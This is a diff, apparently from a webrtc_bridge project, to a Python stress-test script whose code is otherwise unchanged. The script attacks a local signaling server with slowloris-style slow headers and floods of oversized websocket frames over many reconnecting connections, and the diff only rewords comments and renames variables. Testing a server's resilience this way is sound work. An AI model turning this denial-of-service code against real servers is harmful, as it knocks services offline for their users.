@@ -1,7 +1,7 @@
 """
-Attack a signaling server: with headers that never end, or with all that can be sent.
+Attack a signaling server with headers that never end, or with as much data as possible.
 
-Politely towards the machine (nice 19), because a real attacker has one of its own.
+The attacker runs at nice 19, because a real one has a machine of its own.
 """
 
 import argparse
@@ -15,7 +15,7 @@ from webrtc_bridge.program.lifetime import run
 
 CONNECTIONS = {'slowloris': 500, 'flood': 20}
 PAUSE = 0.05
-'Seconds before a connection that was cut is made anew.'
+'Seconds before a closed connection is opened again.'
 
 HEADER = UPGRADE.format(path='/receiver', host='localhost', more='')
 BYTE_EACH = 0.5
@@ -24,7 +24,7 @@ HUGE = b'\x81\xff' + (1 << 20).to_bytes(8, 'big') + bytes(4) + b'x' * (1 << 20)
 
 
 async def slowloris(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Send a header that takes longer than anybody waits."""
+    """Send a header that takes longer than any server waits."""
     for byte in HEADER.encode():
         writer.write(bytes([byte]))
         await writer.drain()
@@ -32,7 +32,7 @@ async def slowloris(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) 
 
 
 async def flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Register, and send what the server has to refuse, without reading its answers."""
+    """Register, and send messages that the server must refuse, without reading its answers."""
     writer.write(HEADER.encode())
     await reader.readuntil(b'\r\n\r\n')
     for number in range(1_000_000):
@@ -46,7 +46,7 @@ ATTACKS = {'slowloris': slowloris, 'flood': flood}
 async def attack(name: str, port: int) -> None:
     """Attack until cancelled."""
 
-    async def again_and_again() -> None:
+    async def repeat() -> None:
         while True:
             with contextlib.suppress(OSError, EOFError):
                 reader, writer = await asyncio.open_connection('127.0.0.1', port)
@@ -55,16 +55,16 @@ async def attack(name: str, port: int) -> None:
             await asyncio.sleep(PAUSE)
 
     print('attacking', flush=True)
-    await asyncio.gather(*(again_and_again() for _ in range(CONNECTIONS[name])))
+    await asyncio.gather(*(repeat() for _ in range(CONNECTIONS[name])))
 
 
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__)
     parser.add_argument('--attack', choices=ATTACKS, required=True)
     parser.add_argument('--port', type=int, required=True)
-    given = parser.parse_args()
+    options = parser.parse_args()
     os.nice(19)
-    return run(lambda: attack(given.attack, given.port))
+    return run(lambda: attack(options.attack, options.port))
 
 
 if __name__ == '__main__':
